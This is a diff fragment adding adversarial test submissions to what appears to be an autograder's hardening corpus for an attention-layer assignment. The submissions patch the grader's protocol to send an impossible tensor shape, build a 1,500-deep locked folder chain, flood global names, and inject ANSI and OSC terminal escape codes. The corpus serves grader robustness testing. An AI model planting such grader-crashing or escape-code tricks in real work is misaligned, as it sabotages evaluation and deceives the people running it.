+              _os.unlink(f"gone-{_i}.bin")
+              _held.append(_f)
+              _f.write(_block)
+              _f.flush()
+          """)),
+    # Crashing the grader: each is the submission's own result, never "the autograder itself failed".
+    C("sys_crash_shape", "patches the worker so that every reply after loading is a tensor of shape (2**62, 4, 0): "
+      "zero elements, but torch cannot even describe it (it used to crash the grader)", 0, "checks",
+      "sent a malformed reply",
+      top("""
+          import json as _json
+          import struct as _struct
+
+          import autograder.protocol as _protocol
+
+          _sent = [0]
+
+
+          def _pack(obj):
+              _sent[0] += 1
+              if _sent[0] == 1:  # the load reply goes through, so that the checks start
+                  return _real(obj)
+              head = _json.dumps({"body": {"ok": True, "value": {"out": {"$t": 0, "dtype": "float32",
+                                                                      "shape": [2 ** 62, 4, 0], "device": "cpu"},
+                                                              "records": []}}, "sizes": [0]}).encode()
+              return _struct.pack("!II", len(head), 0) + head
+
+
+          _real = _protocol.pack
+          _protocol.pack = _pack
+          """)),
+    C("sys_crash_deep_folders", "leaves a 1,500-deep chain of folders (deeper than PATH_MAX and Python's recursion "
+      "limit), ending in a mode-000 folder, in its scratch folder; the attention code is right", 100, None, "",
+      top("""
+          import os as _os
+
+          _fd = _os.open(".", _os.O_RDONLY)
+          for _ in range(1500):
+              _os.mkdir("d", dir_fd=_fd)
+              _new = _os.open("d", _os.O_RDONLY, dir_fd=_fd)
+              _os.close(_fd)
+              _fd = _new
+          _os.mkdir("locked", dir_fd=_fd)
+          _os.chmod("locked", 0, dir_fd=_fd)
+          _os.close(_fd)
+          """)),
+    # Everything but the misspelt MultiHeadAttention (20 points), which gets its rename hint. 200,000 names, not
+    # 600,000 (91 s of hint search once): its own load must fit the 6 s limit on a busy machine; the hint search
+    # over 600,000 is run by tests/test_sandbox.py itself.
+    C("sys_crash_globals", "200,000 global names, and MultiHeadAttention misspelt as MultiHeadAtention, so the grader "
+      "looks for a near-miss name among them", 80, "checks",
+      "`MultiHeadAttention` is not defined, but `MultiHeadAtention` is",
+      top("""
+
+          globals().update({f"MultiHeadAttention_{_i:06d}": _i for _i in range(200_000)})
+          """),
+      sub(MHA, "class MultiHeadAttention(", "class MultiHeadAtention(")),
+    C("sys_text_surrogate", "the untouched skeleton, except that softmax_naive first prints a lone surrogate, an OSC "
+      "title change and ANSI colour codes (they used to crash the result's UTF-8 encoding)", 0, "output",
+      "PRINTED \ufffd RED  end",
+      top("from __future__ import annotations\n"),
+      first("softmax_naive", r"""
+          print("PRINTED \udcff \x1b]0;owned\x07\x1b[31mRED\x1b[0m \x9b2J end")
+          """), base="skeleton"),
+    # softmax_naive raises (its figure 1 and hidden check 2, worth half: the steps question holds 20 points of
+    # checks for its 10); the type name's escape codes are gone.
+    C("sys_text_escape_type", "softmax_naive raises an exception whose type name and message carry ANSI and OSC "
+      "escape codes (they used to reach the summary table and scores.csv raw); everything else is right", 98.5,
+      "checks", "`softmax_naive(...)` raised Evil: boom",
+      body("softmax_naive", r"""
+          raise type("\x1b[31mEvil\x1b]0;owned\x07", (Exception,), {})("\x1b[2Jboom\x07")
+          """)),
+)
+
+BY_NAME = {c.name: c for c in CASES}
+
+
+def build(folder: Path) -> Path:
+    """Write the corpus into `folder` (made here): the kept files as they are, every other case from its base."""
+    shutil.copytree(KEPT, folder, symlinks=True)
+    for c in CASES:
+        if c.base != "kept":
+            (folder / (c.path or f"{c.name}.py")).write_text(c.source(), encoding="utf-8")
+    return folder
